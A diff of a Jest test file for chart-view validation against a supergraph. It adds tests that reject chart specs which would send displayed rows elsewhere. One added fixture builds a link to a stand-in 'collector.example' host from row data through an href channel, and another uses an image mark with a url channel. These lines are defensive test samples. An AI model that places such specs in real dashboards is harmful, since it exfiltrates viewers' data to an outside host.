@@ -63,6 +63,10 @@ describe('view checks against the supergraph', () => {
       'chart spec reads field "region" that the query does not return at the view\'s dataPath; it returns "id", "name", "successRate"',
     );
     expect(messageOf(view({ dataPath: 'workflows.owner' }))).toMatch(/^dataPath "workflows.owner" is not a field the query selects/);
+    // Nothing that would send the viewer's rows elsewhere when drawn: image marks, url or href channels.
+    const leaking = { ...barSpec, transform: [{ calculate: "'https://collector.example/?d=' + datum.name", as: 'link' }], encoding: { ...barSpec.encoding, href: { field: 'link', type: 'nominal' } } };
+    expect(messageOf(view({ chart: { type: 'BAR', spec: leaking } }))).toMatch(/load or link nothing.*found encoding\.href/);
+    expect(messageOf(view({ chart: { type: 'BAR', spec: { ...barSpec, mark: 'image', encoding: { url: { field: 'name', type: 'nominal' } } } } }))).toMatch(/load or link nothing/);
   });
 
   it('lets a chart read fields its transforms add', () => {
